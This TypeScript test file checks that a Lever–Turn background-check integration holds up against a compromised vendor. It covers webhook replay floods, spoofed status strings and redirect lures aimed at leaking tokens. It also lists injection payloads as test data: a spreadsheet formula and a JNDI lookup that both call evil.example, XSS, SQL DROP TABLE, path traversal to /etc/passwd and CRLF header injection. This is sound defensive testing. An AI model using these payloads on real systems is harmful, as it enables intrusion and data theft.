import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { oddStatuses } from '#infra/local/sandbox/turn-odd-status.ts';
import type { Scene } from './scene.ts';
import { startTrap } from './trap.ts';
import { goodMove } from './webhook-probes.ts';

/** How an answer would lead a request elsewhere; `at` is where the trap listens. */
const lures: Record<string, (at: string) => string> = {
  'a whole address': (at) => `http://${at}/v1/stages`,
  'an address without a scheme': (at) => `//${at}/v1/stages`,
  'an address with a user': (at) => `http://api.lever.co@${at}/v1/stages`,
  'an address with a user and a password': (at) => `http://api.lever.co:443@${at}/v1/stages`,
  'an address with backslashes': (at) => `\\\\${at}\\v1\\stages`,
  'an address with a fragment': (at) => `http://${at}#@api.lever.co/v1/stages`,
};
const redirections = [302, 307, 308];

/** States that Turn does not have, and that must not be shown as ones that it has. */
const inventedStates: readonly string[] = [
  'approved__x',
  'аpproved',
  'ap\u200bproved',
  'approved\u0000',
  'approved\nTurnStatus:clear',
  'clear',
  'TurnStatus:clear',
  'clear:',
  '\u202erealc',
  'toString',
  '__proto__',
  'x'.repeat(5_000),
  '<img src=x onerror=alert(1)>',
  'approved"}',
];

/** Names and tags that would be more than text somewhere. */
const oddTexts: readonly string[] = [
  '=HYPERLINK("http://evil.example","x")',
  '<script>alert(1)</script>',
  '$' + '{jndi:ldap://evil.example/x}',
  '"; DROP TABLE accounts; --',
  '{{7*7}}',
  '../../etc/passwd',
  'Robert\r\nX-Injected: yes',
  '\u0000\u0007\u001b[31m',
  '%s%s%s%n',
  '\ud83d\ude00'.repeat(200),
];

/** What a vendor that was taken over, or somebody who writes into its fields, could try on the running system. */
export const describeVendorAttacks = (sceneOf: () => Scene): void => {
  let people = 0;
  const nobody: string[] = [];
  const add = (name: string, tags: string[] = []): string => {
    people += 1;
    const emails = [`attacked-${people}@people.example`];
    return sceneOf().recruiter.addOpportunity({ name, emails, tags }).id;
  };
  const move = (id: string): void => void sceneOf().recruiter.moveToStage(id, 'Reference check');
  const ordersOf = (id: string) => sceneOf().turn.checks.filter(({ referenceId }) => referenceId?.startsWith(id));
  const shown = (id: string): string[] => [...sceneOf().recruiter.notes(id), ...sceneOf().recruiter.tags(id)];
  const untilOrdered = (id: string) => expect.poll(() => ordersOf(id).length).toBe(1);

  describe('denial of wallet', () => {
    it('one move told two hundred times orders one check', async () => {
      const id = add('Repeated Often');
      const told = sceneOf().recruiter.moveToStage(id, 'Reference check');
      const answers = await Promise.all(
        Array.from({ length: 200 }, () => {
          const { url, body } = told[0] ?? { url: sceneOf().api, body: '' };
          return sceneOf().probe({ path: new URL(url).pathname, body });
        }),
      );
      expect(answers.filter(({ status }) => status !== 200 && status !== 429)).toEqual([]);
      await untilOrdered(id);
    });

    it('a candidate who goes back and forth does not order each time', async () => {
      const id = add('Restless Mover');
      for (let turns = 0; turns < 20; turns++) {
        move(id);
        sceneOf().recruiter.moveToStage(id, 'New applicant');
      }
      move(id);
      await untilOrdered(id);
    });

    it('moves of candidates who are not there are believed', async () => {
      for (let count = 0; count < 50; count++) {
        const id = randomUUID();
        nobody.push(id);
        expect((await sceneOf().probe(goodMove(sceneOf(), id))).status).toBe(200);
      }
    });
  });

  describe('words of Turn', () => {
    let id = '';
    beforeAll(async () => {
      id = add('Odd Statuses');
      move(id);
      await vi.waitUntil(() => ordersOf(id).length === 1, { timeout: 90_000 });
    });
    /** Those who are not there are asked for once more each minute, and would be waited for until the next sweep. */
    const settled = async (): Promise<void> => {
      const { stack } = sceneOf();
      const isIdle = async (): Promise<boolean> => {
        if ((await stack.state()).idle) return true;
        await stack.sweep();
        return false;
      };
      await expect.poll(isIdle, { interval: 500 }).toBe(true);
    };

    it.each(inventedStates.map((state) => [JSON.stringify(state.slice(0, 40)), state]))(
      'the state %s is not shown as one that there is',
      async (_, state) => {
        sceneOf().turn.advance(ordersOf(id)[0]?.workerId ?? '', state);
        await settled();
        const tags = shown(id).filter((text) => text.startsWith('TurnStatus:'));
        expect(tags).not.toContain('TurnStatus:clear');
        for (const tag of tags) expect(tag).toMatch(/^TurnStatus:[\w .-]{1,100}$/u);
      },
    );

    it.each(oddStatuses)('%s is not written into Lever', async (odd) => {
      const worker = ordersOf(id)[0]?.workerId ?? '';
      sceneOf().turn.spoil(worker, odd);
      sceneOf().turn.advance(worker, 'processing');
      await settled();
      sceneOf().turn.advance(worker, 'approved');
      await settled();
      sceneOf().turn.spoil(worker, null);
      expect(shown(id).join('\n')).not.toMatch(/elsewhere|javascript:|http:\/\/|:8443/u);
    });
  });

  describe('words of people in Lever', () => {
    it.each(oddTexts.map((text) => [JSON.stringify(text.slice(0, 30)), text]))(
      '%s is text, whether a name or a package’s',
      async (_, text) => {
        const id = add(`Mallory ${text}`, [`TurnPackage:P0000000001:${text}`, text]);
        move(id);
        await expect.poll(() => sceneOf().recruiter.notes(id).length).toBeGreaterThan(0);
        expect(ordersOf(id).length).toBeLessThanOrEqual(1);
        const headers = { authorization: `Bearer ${sceneOf().tokens.admin}` };
        const { status, headers: given } = await sceneOf().probe({
          method: 'GET',
          path: `/api/candidates/${id}`,
          headers,
        });
        expect(status).toBe(200);
        expect(given).not.toHaveProperty('x-injected');
      },
    );
  });

  // Last, for it takes hours: tokens that were good before are not any more.
  describe('redirections', () => {
    let trap: Awaited<ReturnType<typeof startTrap>>;
    beforeAll(async () => {
      trap = await startTrap();
    });
    afterAll(() => trap.stop());

    const probes = redirections.flatMap((status) => Object.keys(lures).map((name) => [status, name] as const));
    it('by either vendor, with any status, to any kind of address lead nowhere, and cost nobody the check', async () => {
      const { lever, turn, stack } = sceneOf();
      const lured: string[] = [];
      for (const [failure, name] of probes) {
        const location = lures[name]?.(trap.at) ?? '';
        lever.failNext({ path: '/opportunities/', times: 1, failure, location });
        turn.failNext({ path: '/person/search_async', times: 1, failure, location });
        const id = add('Lured Elsewhere');
        lured.push(id);
        move(id);
      }
      for (let hour = 0; hour < 12 && lured.some((id) => ordersOf(id).length === 0); hour++) {
        await new Promise((resolve) => setTimeout(resolve, 2_000));
        await stack.advanceClock(3_600);
      }
      lever.clearFaults();
      turn.clearFaults();
      for (const id of lured) await untilOrdered(id);
      expect(trap.caught).toEqual([]);
      // Nor did any of the candidates who are not there get one in those hours.
      expect(nobody.flatMap(ordersOf)).toEqual([]);
    }, 900_000);
  });
};
